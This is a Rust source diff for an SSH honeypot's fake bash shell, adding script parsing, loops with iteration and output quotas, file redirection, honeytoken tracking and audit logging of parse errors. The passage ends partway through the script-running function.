@@ -1,44 +1,128 @@
 mod parser;
 
+use std::{borrow::Cow, collections::VecDeque, path::Path};
+
 use async_trait::async_trait;
-use pisshoff_types::audit::{AuditLogAction, ExecCommandEvent};
-use thrussh::{server::Session, ChannelId};
+use bytes::Bytes;
+use futures::future::BoxFuture;
+use pisshoff_types::{
+    audit::{AuditLogAction, ExecCommandEvent, ScriptExecutionEvent, ShellParseErrorEvent},
+    byte_str::ByteStr,
+};
+use thrussh::{server::Session, ChannelId, CryptoVec};
 use tracing::info;
 
 use crate::{
-    command::{CommandResult, ConcreteCommand},
-    server::{ConnectionState, EitherSession, StdoutCaptureSession},
+    audit::HoneytokenAccess,
+    command::{Command, CommandResult, ConcreteCommand, PartialCommand},
+    file_system::home_directory,
+    server::{ChannelSession, ConnectionState, LimitedSession, ThrusshSession},
     subsystem::{
-        shell::parser::{tokenize, IterState, ParsedPart},
+        shell::parser::{
+            parse_script, IterState, LimitExceeded, ParseLimits, ParsedPart, RedirectionTo,
+            Statement,
+        },
         Subsystem,
     },
 };
 
 pub const SHELL_PROMPT: &str = "bash-5.1$ ";
 
+/// Prompt shown when a statement spans multiple lines, ie. an `if` without a `fi`.
+pub const CONTINUATION_PROMPT: &str = "> ";
+
+/// How many scripts may be nested within each other, ie. by a script that runs itself, before
+/// they fail as if the process limit had been hit.
+const MAX_SCRIPT_DEPTH: usize = 8;
+
+/// How many actions a script executes before giving other connections on the runtime a chance to
+/// make progress.
+const YIELD_INTERVAL: usize = 64;
+
 type IResult<I, O> = nom::IResult<I, O, nom_supreme::error::ErrorTree<I>>;
 
 #[derive(Debug)]
 pub struct Shell {
     interactive: bool,
+    /// Whether the client requested a PTY for the channel the shell is running on.
+    pty: bool,
     state: State,
+    /// Input received so far for a statement that spans multiple lines.
+    pending_input: Vec<u8>,
 }
 
 impl Shell {
-    pub fn new(interactive: bool, channel: ChannelId, session: &mut Session) -> Self {
+    pub fn new(interactive: bool, pty: bool, channel: ChannelId, session: &mut Session) -> Self {
         if interactive {
             session.data(channel, SHELL_PROMPT.to_string().into());
         }
 
         Self {
             interactive,
+            pty,
             state: State::Prompt,
+            pending_input: Vec::new(),
         }
     }
 
+    /// Parses the input received so far, returning `None` if it ends partway through a
+    /// statement that an interactive shell should wait for the rest of.
+    fn parse_pending(
+        &self,
+        connection: &mut ConnectionState,
+    ) -> Option<Result<Vec<Statement<'static>>, String>> {
+        let limits = ParseLimits::from(connection.config());
+
+        let parsed = match parse_script(&self.pending_input, limits) {
+            Ok((&[], statements)) => Ok(statements
+                .into_iter()
+                .map(Statement::into_owned)
+                .collect::<Vec<_>>()),
+            Ok((rest, _)) => {
+                let token = rest
+                    .split(u8::is_ascii_whitespace)
+                    .next()
+                    .unwrap_or_default();
+
+                record_parse_error(
+                    connection,
+                    &self.pending_input,
+                    unexpected_token(&self.pending_input, rest, token),
+                );
+
+                Err(format!(
+                    "bash: syntax error near unexpected token `{}'\n",
+                    String::from_utf8_lossy(token)
+                ))
+            }
+            Err(nom::Err::Incomplete(_)) if self.interactive => return None,
+            Err(nom::Err::Incomplete(_)) => {
+                record_parse_error(
+                    connection,
+                    &self.pending_input,
+                    "unexpected end of file".to_string(),
+                );
+
+                Err("bash: -c: line 1: syntax error: unexpected end of file\n".to_string())
+            }
+            Err(e) => {
+                if !record_limit_exceeded(connection, &e) {
+                    info!("Invalid syntax: {e}");
+                }
+
+                let error = render_parse_error(&self.pending_input, e);
+                record_parse_error(connection, &self.pending_input, error);
+
+                Err("bash: syntax error\n".to_string())
+            }
+        };
+
+        Some(parsed)
+    }
+
     fn handle_command_result(
         &self,
-        command_result: CommandResult<ExecutingCommand>,
+        command_result: CommandResult<ExecutingScript>,
     ) -> (State, bool) {
         match (command_result, self.interactive) {
             (CommandResult::ReadStdin(cmd), _) => (State::Running(cmd), true),
@@ -52,8 +136,6 @@ impl Shell {
 
 #[async_trait]
 impl Subsystem for Shell {
-    const NAME: &'static str = "shell";
-
     async fn data(
         &mut self,
         connection: &mut ConnectionState,
@@ -64,31 +146,53 @@ impl Subsystem for Shell {
         loop {
             let (next, end) = match std::mem::take(&mut self.state) {
                 State::Prompt => {
-                    connection
-                        .audit_log()
-                        .push_action(AuditLogAction::ExecCommand(ExecCommandEvent {
-                            args: Box::from(vec![String::from_utf8_lossy(data).to_string()]),
-                        }));
-
-                    match tokenize(data) {
-                        Ok((_unparsed, args)) => {
-                            let cmd = parser::Iter::new(
-                                args.into_iter().map(ParsedPart::into_owned).collect(),
-                            );
-                            self.handle_command_result(
-                                ExecutingCommand::new(cmd, connection, channel, session).await,
-                            )
-                        }
+                    let command = ByteStr::from_utf8_lossy(Bytes::copy_from_slice(data));
+                    let args = split_command(&command);
+
+                    connection.record_command(command.trim_end());
+
+                    connection.push_action(AuditLogAction::ExecCommand(ExecCommandEvent {
+                        command,
+                        args,
+                        interactive: self.interactive,
+                        pty: self.pty,
+                    }));
+
+                    let data = normalise_input(data);
+
+                    self.pending_input.extend_from_slice(&data);
+
+                    let Some(parsed) = self.parse_pending(connection) else {
+                        // wait for the rest of the statement on the next line
+                        self.state = State::Prompt;
+                        break;
+                    };
+
+                    self.pending_input.clear();
+
+                    match parsed {
+                        Ok(statements) => self.handle_command_result(
+                            ExecutingScript::new(statements, connection)
+                                .run(
+                                    connection,
+                                    channel,
+                                    &mut ChannelSession::new(session, self.pty),
+                                )
+                                .await,
+                        ),
                         Err(e) => {
-                            // TODO
-                            info!("Invalid syntax: {e}");
-                            session.data(channel, "bash: syntax error\n".to_string().into());
+                            connection.set_last_exit_status(2);
+                            ChannelSession::new(session, self.pty).stderr(channel, e.into());
                             (State::Prompt, true)
                         }
                     }
                 }
-                State::Running(command) => self
-                    .handle_command_result(command.stdin(connection, channel, data, session).await),
+                State::Running(command) => {
+                    let mut session = ChannelSession::new(session, self.pty);
+                    self.handle_command_result(
+                        command.stdin(connection, channel, data, &mut session).await,
+                    )
+                }
                 State::Exit(exit_status) => {
                     session.exit_status_request(channel, exit_status);
                     (State::Prompt, true)
@@ -108,67 +212,582 @@ impl Subsystem for Shell {
         }
 
         if matches!(self.state, State::Prompt) {
-            session.data(channel, SHELL_PROMPT.to_string().into());
+            let prompt = if self.pending_input.is_empty() {
+                SHELL_PROMPT
+            } else {
+                CONTINUATION_PROMPT
+            };
+
+            session.data(channel, prompt.to_string().into());
+        }
+    }
+
+    fn abort(&mut self, connection: &mut ConnectionState) {
+        if let State::Running(script) = std::mem::take(&mut self.state) {
+            script.abort(connection);
         }
     }
 }
 
-#[derive(Debug)]
+/// Tags the connection if `e` was caused by input exceeding the parser's limits, returning true if
+/// it was.
+fn record_limit_exceeded(
+    connection: &mut ConnectionState,
+    e: &nom::Err<nom_supreme::error::ErrorTree<&[u8]>>,
+) -> bool {
+    let Some(limit) = LimitExceeded::find(e) else {
+        return false;
+    };
+
+    info!("Rejected input from client: {limit}");
+    connection.tag("parser_limit", limit.as_str());
+    true
+}
+
+/// Audits input that couldn't be parsed, along with why.
+fn record_parse_error(connection: &mut ConnectionState, input: &[u8], error: String) {
+    let (input, _) = connection.truncate_upload(Bytes::copy_from_slice(input));
+
+    connection.push_action(AuditLogAction::ShellParseError(ShellParseErrorEvent {
+        input,
+        error: error.into(),
+    }));
+}
+
+/// Describes input left over after parsing as much of `input` as possible, `rest` being what was
+/// left and `token` the first word of it.
+fn unexpected_token(input: &[u8], rest: &[u8], token: &[u8]) -> String {
+    format!(
+        "unexpected token `{}' at {}",
+        String::from_utf8_lossy(token),
+        input.len() - rest.len()
+    )
+}
+
+/// Renders the parser's error tree, with the locations in it given as byte offsets into `input`
+/// rather than the remaining input at each.
+fn render_parse_error(input: &[u8], e: nom::Err<nom_supreme::error::ErrorTree<&[u8]>>) -> String {
+    match e {
+        nom::Err::Error(tree) | nom::Err::Failure(tree) => tree
+            .map_locations(|rest: &[u8]| input.len() - rest.len())
+            .to_string(),
+        nom::Err::Incomplete(_) => "unexpected end of file".to_string(),
+    }
+}
+
+/// Splits `command` into words the way a shell would, or returns `None` if it can't be, ie. due
+/// to an unterminated quote. Words that appear verbatim in `command` share its buffer rather than
+/// being copied out of it.
+pub fn split_command(command: &ByteStr) -> Option<Box<[ByteStr]>> {
+    let mut rest = command.trim_end();
+
+    let words = shlex::split(rest)?
+        .into_iter()
+        .map(|word| {
+            let Some(start) = rest.find(word.as_str()) else {
+                // the word was quoted or escaped, so it's not in the command as-is
+                return ByteStr::from(word);
+            };
+
+            let (found, remaining) = rest[start..].split_at(word.len());
+            rest = remaining;
+            command.slice_ref(found)
+        })
+        .collect();
+
+    Some(words)
+}
+
+/// Normalises input pasted from Windows tooling so it's interpreted the same way it would be if
+/// it came from a Unix machine, byte order marks are stripped, UTF-16 is transcoded to UTF-8 and
+/// carriage returns are treated as line endings.
+fn normalise_input(data: &[u8]) -> Cow<'_, [u8]> {
+    let data = data.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(data);
+
+    let data = match decode_utf16(data) {
+        Some(decoded) => Cow::Owned(decoded.into_bytes()),
+        None => Cow::Borrowed(data),
+    };
+
+    if !data.contains(&b'\r') {
+        return data;
+    }
+
+    let mut out = Vec::with_capacity(data.len());
+    let mut iter = data.iter().copied().peekable();
+
+    while let Some(c) = iter.next() {
+        if c != b'\r' {
+            out.push(c);
+        } else if iter.peek() != Some(&b'\n') {
+            // a lone carriage return is what a terminal sends on enter
+            out.push(b'\n');
+        }
+    }
+
+    Cow::Owned(out)
+}
+
+/// Decodes `data` if it looks like UTF-16, either because it starts with a byte order mark or
+/// because it's ASCII with every other byte being a nul.
+fn decode_utf16(data: &[u8]) -> Option<String> {
+    let (little_endian, data) = if let Some(rest) = data.strip_prefix(b"\xFF\xFE") {
+        (true, rest)
+    } else if let Some(rest) = data.strip_prefix(b"\xFE\xFF") {
+        (false, rest)
+    } else if !data.is_empty()
+        && data.len().is_multiple_of(2)
+        && data.chunks_exact(2).all(|c| c[0] != 0 && c[1] == 0)
+    {
+        (true, data)
+    } else {
+        return None;
+    };
+
+    let units = data.chunks_exact(2).map(|c| {
+        if little_endian {
+            u16::from_le_bytes([c[0], c[1]])
+        } else {
+            u16::from_be_bytes([c[0], c[1]])
+        }
+    });
+
+    Some(
+        char::decode_utf16(units)
+            .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
+            .collect(),
+    )
+}
+
+/// A list of statements being executed, branching on the exit status of previously executed
+/// statements.
+#[derive(Debug, Clone)]
+pub struct ExecutingScript {
+    pending: VecDeque<Action>,
+    current: Option<Box<ExecutingCommand>>,
+    /// Number of bytes commands executed within a loop may still write before the loops are
+    /// terminated.
+    loop_output_remaining: usize,
+}
+
+#[derive(Debug, Clone)]
+enum Action {
+    Execute(Statement<'static>),
+    /// Executes one of the branches depending on the exit status of the previous statement.
+    Branch {
+        then: Vec<Statement<'static>>,
+        otherwise: Vec<Statement<'static>>,
+    },
+    /// Executes the next iteration of a `for` loop, binding the next word to `variable`.
+    ForIteration {
+        variable: Cow<'static, [u8]>,
+        words: VecDeque<Cow<'static, [u8]>>,
+        body: Vec<Statement<'static>>,
+        iterations: usize,
+    },
+    /// Executes the next iteration of a `while` loop if the condition that was just executed
+    /// passed.
+    WhileIteration {
+        until: bool,
+        condition: Vec<Statement<'static>>,
+        body: Vec<Statement<'static>>,
+        iterations: usize,
+    },
+}
+
+impl Action {
+    fn is_loop(&self) -> bool {
+        matches!(
+            self,
+            Self::ForIteration { .. } | Self::WhileIteration { .. }
+        )
+    }
+}
+
+impl ExecutingScript {
+    fn new(statements: Vec<Statement<'static>>, connection: &mut ConnectionState) -> Self {
+        // scripts run by other scripts share the allowance of whatever started them
+        if connection.script_depth() == 0 {
+            connection.reset_loop_iterations();
+        }
+
+        Self {
+            pending: statements.into_iter().map(Action::Execute).collect(),
+            current: None,
+            loop_output_remaining: connection.config().max_loop_output,
+        }
+    }
+
+    fn abort(self, connection: &mut ConnectionState) {
+        if let Some(current) = self.current {
+            current.current.abort(connection);
+        }
+    }
+
+    fn push_front(&mut self, statements: Vec<Statement<'static>>) {
+        for statement in statements.into_iter().rev() {
+            self.pending.push_front(Action::Execute(statement));
+        }
+    }
+
+    fn in_loop(&self) -> bool {
+        self.pending.iter().any(Action::is_loop)
+    }
+
+    /// Terminates every loop currently being executed, continuing on with whatever follows the
+    /// outermost loop.
+    fn break_loops(&mut self) {
+        if let Some(i) = self.pending.iter().rposition(Action::is_loop) {
+            self.pending.drain(..=i);
+        }
+    }
+
+    /// Uses up one of the script's loop iterations, terminating every loop if it has run out.
+    fn take_loop_iteration(&mut self, connection: &mut ConnectionState) -> bool {
+        if connection.take_loop_iteration() {
+            return true;
+        }
+
+        info!("Terminating loops after exceeding the script's iteration quota");
+        self.break_loops();
+        false
+    }
+
+    /// Queues up the statements to execute next for any action that doesn't directly execute a
+    /// command.
+    fn schedule(&mut self, action: Action, connection: &mut ConnectionState) {
+        match action {
+            Action::Execute(Statement::And(statement)) => {
+                if connection.last_exit_status() == 0 {
+                    self.pending.push_front(Action::Execute(*statement));
+                }
+            }
+            Action::Execute(Statement::Or(statement)) => {
+                if connection.last_exit_status() != 0 {
+                    self.pending.push_front(Action::Execute(*statement));
+                }
+            }
+            Action::Execute(Statement::If {
+                condition,
+                then,
+                otherwise,
+            }) => {
+                self.pending.push_front(Action::Branch { then, otherwise });
+                self.push_front(condition);
+            }
+            Action::Execute(Statement::While {
+                until,
+                condition,
+                body,
+            }) => {
+                self.pending.push_front(Action::WhileIteration {
+                    until,
+                    condition: condition.clone(),
+                    body,
+                    iterations: 0,
+                });
+                self.push_front(condition);
+            }
+            Action::Branch { then, otherwise } => {
+                if connection.last_exit_status() == 0 {
+                    self.push_front(then);
+                } else if otherwise.is_empty() {
+                    // an `if` without a matching branch exits successfully
+                    connection.set_last_exit_status(0);
+                } else {
+                    self.push_front(otherwise);
+                }
+            }
+            Action::ForIteration {
+                variable,
+                mut words,
+                body,
+                iterations,
+            } => {
+                let Some(word) = words.pop_front() else {
+                    return;
+                };
+
+                if iterations >= connection.config().max_loop_iterations {
+                    info!("Terminating for loop after {iterations} iterations");
+                    return;
+                }
+
+                if !self.take_loop_iteration(connection) {
+                    return;
+                }
+
+                connection.set_variable(variable.clone(), word);
+
+                self.pending.push_front(Action::ForIteration {
+                    variable,
+                    words,
+                    body: body.clone(),
+                    iterations: iterations + 1,
+                });
+                self.push_front(body);
+            }
+            Action::WhileIteration {
+                until,
+                condition,
+                body,
+                iterations,
+            } => {
+                if (connection.last_exit_status() == 0) == until {
+                    connection.set_last_exit_status(0);
+                    return;
+                }
+
+                if iterations >= connection.config().max_loop_iterations {
+                    info!("Terminating while loop after {iterations} iterations");
+                    connection.set_last_exit_status(0);
+                    return;
+                }
+
+                if !self.take_loop_iteration(connection) {
+                    connection.set_last_exit_status(0);
+                    return;
+                }
+
+                self.pending.push_front(Action::WhileIteration {
+                    until,
+                    condition: condition.clone(),
+                    body: body.clone(),
+                    iterations: iterations + 1,
+                });
+                self.push_front(condition);
+                self.push_front(body);
+            }
+            Action::Execute(Statement::Command(_) | Statement::For { .. }) => {
+                unreachable!("executed by run")
+            }
+        }
+    }
+
+    async fn run<S: ThrusshSession + Send>(
+        mut self,
+        connection: &mut ConnectionState,
+        channel: ChannelId,
+        session: &mut S,
+    ) -> CommandResult<Self> {
+        let mut steps = 0_usize;
+
+        while let Some(action) = self.pending.pop_front() {
+            steps += 1;
+
+            if steps.is_multiple_of(YIELD_INTERVAL) {
+                tokio::task::yield_now().await;
+            }
+
+            match action {
+                Action::Execute(Statement::Command(command)) => {
+                    let iter = parser::Iter::new(command);
+
+                    let result = if self.in_loop() {
+                        let mut session =
+                            LimitedSession::new(session, &mut self.loop_output_remaining);
+                        ExecutingCommand::new(iter, connection, channel, &mut session).await
+                    } else {
+                        ExecutingCommand::new(iter, connection, channel, session).await
+                    };
+
+                    match result {
+                        CommandResult::ReadStdin(cmd) => {
+                            self.current = Some(Box::new(cmd));
+                            return CommandResult::ReadStdin(self);
+                        }
+                        CommandResult::Exit(_) => self.check_loop_output(),
+                        CommandResult::Close(status) => return CommandResult::Close(status),
+                    }
+                }
+                Action::Execute(Statement::For {
+                    variable,
+                    words,
+                    body,
+                }) => {
+                    let words = expand_words(words, connection, channel, session).await;
+
+                    // a loop that never executes its body exits successfully
+                    connection.set_last_exit_status(0);
+
+                    self.pending.push_front(Action::ForIteration {
+                        variable,
+                        words: words.into(),
+                        body,
+                        iterations: 0,
+                    });
+                }
+                action => self.schedule(action, connection),
+            }
+        }
+
+        CommandResult::Exit(connection.last_exit_status())
+    }
+
+    async fn stdin<S: ThrusshSession + Send>(
+        mut self,
+        connection: &mut ConnectionState,
+        channel: ChannelId,
+        data: &[u8],
+        session: &mut S,
+    ) -> CommandResult<Self> {
+        let Some(current) = self.current.take() else {
+            return self.run(connection, channel, session).await;
+        };
+
+        let result = if self.in_loop() {
+            let mut session = LimitedSession::new(session, &mut self.loop_output_remaining);
+            current.stdin(connection, channel, data, &mut session).await
+        } else {
+            current.stdin(connection, channel, data, session).await
+        };
+
+        match result {
+            CommandResult::ReadStdin(cmd) => {
+                self.current = Some(Box::new(cmd));
+                CommandResult::ReadStdin(self)
+            }
+            CommandResult::Exit(_) => {
+                self.check_loop_output();
+                self.run(connection, channel, session).await
+            }
+            CommandResult::Close(status) => CommandResult::Close(status),
+        }
+    }
+
+    /// Terminates any running loops if they've used up their output quota.
+    fn check_loop_output(&mut self) {
+        if self.loop_output_remaining == 0 && self.in_loop() {
+            info!("Terminating loops after exceeding output quota");
+            self.break_loops();
+        }
+    }
+}
+
+/// Expands the words a `for` loop iterates over, executing any command substitutions.
+async fn expand_words<S: ThrusshSession + Send>(
+    words: Vec<ParsedPart<'static>>,
+    connection: &mut ConnectionState,
+    channel: ChannelId,
+    session: &mut S,
+) -> Vec<Cow<'static, [u8]>> {
+    let mut iter = parser::Iter::new(words);
+    let mut buf = Vec::new();
+
+    loop {
+        match iter.step(
+            connection,
+            Some(std::mem::take(&mut buf)).filter(|v| !v.is_empty()),
+        ) {
+            IterState::Expand(cmd) => {
+                let mut redirections = Redirections::substitution(iter.expansion_stderr());
+                let mut sess = RedirectedSession {
+                    inner: &mut *session,
+                    redirections: &mut redirections,
+                    substitution: Some(&mut buf),
+                };
+
+                // there's no stdin to give to a substitution, so any waiting on it are abandoned
+                if let CommandResult::Exit(status) | CommandResult::Close(status) = cmd
+                    .into_concrete_command(connection, channel, &mut sess)
+                    .await
+                {
+                    let status = finish(redirections, status, connection, channel, session);
+                    connection.set_last_exit_status(status);
+                }
+            }
+            IterState::Ready(cmd) => return cmd.into_words(),
+        }
+    }
+}
+
+#[derive(Debug, Clone)]
 pub struct ExecutingCommand {
     iter: parser::Iter<'static>,
     current: ConcreteCommand,
     buf: Option<Vec<u8>>,
+    /// Where the current command's output is going.
+    redirections: Redirections,
 }
 
 impl ExecutingCommand {
-    async fn new(
+    async fn new<S: ThrusshSession + Send>(
         iter: parser::Iter<'static>,
         connection: &mut ConnectionState,
         channel: ChannelId,
-        session: &mut Session,
+        session: &mut S,
     ) -> CommandResult<Self> {
         Self::new_inner(Vec::new(), iter, connection, channel, session).await
     }
 
-    async fn new_inner(
+    async fn new_inner<S: ThrusshSession + Send>(
         mut buf: Vec<u8>,
         mut iter: parser::Iter<'static>,
         connection: &mut ConnectionState,
         channel: ChannelId,
-        session: &mut Session,
+        session: &mut S,
     ) -> CommandResult<Self> {
         loop {
             let (has_next, current) = match iter.step(
-                connection.environment(),
+                connection,
                 Some(std::mem::take(&mut buf)).filter(|v| !v.is_empty()),
             ) {
                 IterState::Expand(cmd) => (true, cmd),
                 IterState::Ready(cmd) => (false, cmd),
             };
 
-            let mut session = if has_next {
-                EitherSession::L(StdoutCaptureSession::new(&mut buf))
+            let mut redirections = if has_next {
+                Redirections::substitution(iter.expansion_stderr())
             } else {
-                EitherSession::R(&mut *session)
+                Redirections::new(iter.redirections())
             };
 
-            match (
-                current
-                    .into_concrete_command(connection, channel, &mut session)
-                    .await,
-                has_next,
-            ) {
+            let input = if has_next {
+                iter.expansion_input()
+            } else {
+                iter.input()
+            }
+            .map(|path| read_input(connection, path));
+
+            let mut sess = RedirectedSession {
+                inner: &mut *session,
+                redirections: &mut redirections,
+                substitution: Some(&mut buf),
+            };
+
+            let result = match input {
+                Some(Ok(content)) => {
+                    run_with_input(current, content, connection, channel, &mut sess).await
+                }
+                Some(Err(e)) => {
+                    sess.stderr(channel, e.into());
+                    CommandResult::Exit(1)
+                }
+                None => {
+                    current
+                        .into_concrete_command(connection, channel, &mut sess)
+                        .await
+                }
+            };
+
+            match (result, has_next) {
                 (CommandResult::ReadStdin(cmd), has_next) => {
                     break CommandResult::ReadStdin(Self {
                         iter,
                         current: cmd,
                         buf: has_next.then_some(buf),
+                        redirections,
                     })
                 }
-                (CommandResult::Exit(_status), true) => {
+                // `exit` in a command substitution only ends its subshell
+                (CommandResult::Exit(status) | CommandResult::Close(status), true) => {
+                    let status = finish(redirections, status, connection, channel, session);
+                    connection.set_last_exit_status(status);
                     continue;
                 }
                 (CommandResult::Exit(status), false) => {
+                    let status = finish(redirections, status, connection, channel, session);
+                    connection.set_last_exit_status(status);
                     break CommandResult::Exit(status);
                 }
                 (CommandResult::Close(status), _) => {
@@ -178,17 +797,17 @@ impl ExecutingCommand {
         }
     }
 
-    async fn stdin(
+    async fn stdin<S: ThrusshSession + Send>(
         mut self,
         connection: &mut ConnectionState,
         channel: ChannelId,
         data: &[u8],
-        session: &mut Session,
+        session: &mut S,
     ) -> CommandResult<Self> {
-        let mut sess = if let Some(buf) = &mut self.buf {
-            EitherSession::L(StdoutCaptureSession::new(buf))
-        } else {
-            EitherSession::R(&mut *session)
+        let mut sess = RedirectedSession {
+            inner: &mut *session,
+            redirections: &mut self.redirections,
+            substitution: self.buf.as_mut(),
         };
 
         match self
@@ -200,27 +819,863 @@ impl ExecutingCommand {
                 iter: self.iter,
                 current: cmd,
                 buf: self.buf,
+                redirections: self.redirections,
             }),
-            CommandResult::Exit(_) => {
-                Self::new_inner(
-                    self.buf.unwrap_or_default(),
-                    self.iter,
+            CommandResult::Close(status) if self.buf.is_none() => CommandResult::Close(status),
+            CommandResult::Exit(status) | CommandResult::Close(status) => {
+                let status = finish(self.redirections, status, connection, channel, session);
+                connection.set_last_exit_status(status);
+
+                if let Some(buf) = self.buf {
+                    Self::new_inner(buf, self.iter, connection, channel, session).await
+                } else {
+                    // the final command in the pipeline has exited
+                    CommandResult::Exit(status)
+                }
+            }
+        }
+    }
+}
+
+/// Reads the file a command's stdin has been redirected from, returning the error bash would
+/// print if it can't be.
+fn read_input(connection: &mut ConnectionState, path: &[u8]) -> Result<Vec<u8>, String> {
+    let path = String::from_utf8_lossy(path);
+    let resolved = resolve_path(connection, &path);
+
+    connection.touch_file(Path::new(&resolved), HoneytokenAccess::Read);
+    connection
+        .file_system()
+        .read(Path::new(&resolved))
+        .map(<[u8]>::to_vec)
+        .map_err(|e| format!("bash: {path}: {e}\n"))
+}
+
+/// Starts a command with its stdin redirected from a file, giving it the whole file followed by
+/// the end of its input.
+async fn run_with_input<S: ThrusshSession + Send>(
+    command: PartialCommand<'static>,
+    mut content: Vec<u8>,
+    connection: &mut ConnectionState,
+    channel: ChannelId,
+    session: &mut S,
+) -> CommandResult<ConcreteCommand> {
+    let command = match command
+        .into_concrete_command(connection, channel, session)
+        .await
+    {
+        CommandResult::ReadStdin(command) => command,
+        result => return result,
+    };
+
+    content.push(0x04);
+
+    match command.stdin(connection, channel, &content, session).await {
+        // there's nothing left to read, so a command still waiting on input would see the end
+        // of the file and exit
+        CommandResult::ReadStdin(command) => {
+            command.abort(connection);
+            CommandResult::Exit(0)
+        }
+        result => result,
+    }
+}
+
+/// Where one of a command's output streams is going.
+#[derive(Debug, Clone, Copy, Default)]
+enum Target {
+    #[default]
+    Stdout,
+    Stderr,
+    /// Captured to be substituted into another command.
+    Substitution,
+    /// Captured to be written to the file at the given index of [`Redirections::files`].
+    File(usize),
+    /// Discarded, for `/dev/null`.
+    Null,
+}
+
+/// Where a command's stdout and stderr are going, capturing anything written to files so it can
+/// be written to the file system once the command exits.
+#[derive(Debug, Clone, Default)]
+struct Redirections {
+    stdout: Target,
+    stderr: Target,
+    files: Vec<RedirectedFile>,
+}
+
+#[derive(Debug, Clone)]
+struct RedirectedFile {
+    path: Cow<'static, [u8]>,
+    append: bool,
+    content: Vec<u8>,
+}
+
+impl Redirections {
+    /// Redirections for a command writing to the terminal, given where its stdout and stderr have
+    /// been redirected to.
+    fn new([stdout, stderr]: &[RedirectionTo<'static>; 2]) -> Self {
+        let mut this = Self::default();
+        this.stdout = this.target(stdout, Target::Stdout);
+        this.stderr = this.target(stderr, Target::Stdout);
+        this
+    }
+
+    /// Redirections for a command being substituted into another, which has its stdout captured.
+    fn substitution(stderr: &RedirectionTo<'static>) -> Self {
+        let mut this = Self {
+            stdout: Target::Substitution,
+            ..Self::default()
+        };
+        this.stderr = this.target(stderr, Target::Substitution);
+        this
+    }
+
+    /// Resolves a redirection to where the output should go, `stdout` being where stdout was
+    /// going before any redirections were applied.
+    fn target(&mut self, to: &RedirectionTo<'static>, stdout: Target) -> Target {
+        let (path, append) = match to {
+            RedirectionTo::Stdio(1) => return stdout,
+            RedirectionTo::Stdio(_) => return Target::Stderr,
+            RedirectionTo::File(path) => (path, false),
+            RedirectionTo::AppendFile(path) => (path, true),
+        };
+
+        if path.as_ref() == b"/dev/null" {
+            return Target::Null;
+        }
+
+        // `>out 2>>out` writes both streams to the same file
+        if let Some(idx) = self.files.iter().position(|v| v.path == *path) {
+            return Target::File(idx);
+        }
+
+        self.files.push(RedirectedFile {
+            path: path.clone(),
+            append,
+            content: Vec::new(),
+        });
+        Target::File(self.files.len() - 1)
+    }
+}
+
+/// Routes a command's output according to its [`Redirections`].
+struct RedirectedSession<'a, S> {
+    inner: S,
+    redirections: &'a mut Redirections,
+    /// Where the output of a command substitution is captured.
+    substitution: Option<&'a mut Vec<u8>>,
+}
+
+impl<S: ThrusshSession> RedirectedSession<'_, S> {
+    fn write(&mut self, target: Target, channel: ChannelId, data: CryptoVec) {
+        match target {
+            Target::Stdout => self.inner.data(channel, data),
+            Target::Stderr => self.inner.stderr(channel, data),
+            Target::Substitution => {
+                if let Some(buf) = &mut self.substitution {
+                    buf.extend_from_slice(&data);
+                }
+            }
+            Target::File(idx) => self.redirections.files[idx]
+                .content
+                .extend_from_slice(&data),
+            Target::Null => {}
+        }
+    }
+
+    /// Whether the command is running in a command substitution's subshell, which has no channel
+    /// of its own to report its exit status on or close.
+    fn subshell(&self) -> bool {
+        matches!(self.redirections.stdout, Target::Substitution)
+    }
+}
+
+impl<S: ThrusshSession> ThrusshSession for RedirectedSession<'_, S> {
+    fn data(&mut self, channel: ChannelId, data: CryptoVec) {
+        self.write(self.redirections.stdout, channel, data);
+    }
+
+    fn stderr(&mut self, channel: ChannelId, data: CryptoVec) {
+        self.write(self.redirections.stderr, channel, data);
+    }
+
+    fn exit_status(&mut self, channel: ChannelId, exit_status: u32) {
+        if !self.subshell() {
+            self.inner.exit_status(channel, exit_status);
+        }
+    }
+
+    fn eof(&mut self, channel: ChannelId) {
+        if !self.subshell() {
+            self.inner.eof(channel);
+        }
+    }
+
+    fn close(&mut self, channel: ChannelId) {
+        if !self.subshell() {
+            self.inner.close(channel);
+        }
+    }
+
+    fn redirected(&self) -> bool {
+        match self.redirections.stdout {
+            Target::Stdout => self.inner.redirected(),
+            Target::Substitution => true,
+            Target::Stderr | Target::File(_) | Target::Null => false,
+        }
+    }
+}
+
+/// A script run as a command, either a file executed from the fake file system or one passed
+/// straight to `sh` or `bash`.
+#[derive(Debug, Clone)]
+pub struct Script(ExecutingScript);
+
+impl Script {
+    /// Parses and starts running `script`, with `name` being where it came from for use in error
+    /// messages. The future is boxed since scripts may go on to run further scripts.
+    pub fn start<'a>(
+        name: &'a str,
+        script: &'a [u8],
+        args: &'a [String],
+        connection: &'a mut ConnectionState,
+        channel: ChannelId,
+        mut session: &'a mut (dyn ThrusshSession + Send),
+    ) -> BoxFuture<'a, CommandResult<Self>> {
+        Box::pin(async move {
+            if connection.script_depth() >= MAX_SCRIPT_DEPTH {
+                info!("Refusing to run {name}, too many scripts are already running");
+                session.stderr(
+                    channel,
+                    "bash: fork: retry: Resource temporarily unavailable\n".into(),
+                );
+                return CommandResult::Exit(254);
+            }
+
+            if script.len() > connection.config().max_script_size {
+                session.stderr(
+                    channel,
+                    format!("bash: {name}: cannot execute: File too large\n").into(),
+                );
+                return CommandResult::Exit(126);
+            }
+
+            let script = normalise_input(script);
+
+            let statements = match parse_script(&script, ParseLimits::from(connection.config())) {
+                Ok((rest, statements)) if rest.iter().all(u8::is_ascii_whitespace) => {
+                    statements.into_iter().map(Statement::into_owned).collect()
+                }
+                Ok((rest, _)) => {
+                    let token = rest
+                        .split(u8::is_ascii_whitespace)
+                        .next()
+                        .unwrap_or_default();
+
+                    let error = unexpected_token(&script, rest, token);
+                    record_parse_error(connection, &script, error);
+
+                    session.stderr(
+                        channel,
+                        format!(
+                            "{name}: syntax error near unexpected token `{}'\n",
+                            String::from_utf8_lossy(token)
+                        )
+                        .into(),
+                    );
+                    return CommandResult::Exit(2);
+                }
+                Err(e) if record_limit_exceeded(connection, &e) => {
+                    let error = render_parse_error(&script, e);
+                    record_parse_error(connection, &script, error);
+
+                    session.stderr(channel, format!("{name}: syntax error\n").into());
+                    return CommandResult::Exit(2);
+                }
+                Err(e) => {
+                    let error = render_parse_error(&script, e);
+                    record_parse_error(connection, &script, error);
+
+                    session.stderr(
+                        channel,
+                        format!("{name}: syntax error: unexpected end of file\n").into(),
+                    );
+                    return CommandResult::Exit(2);
+                }
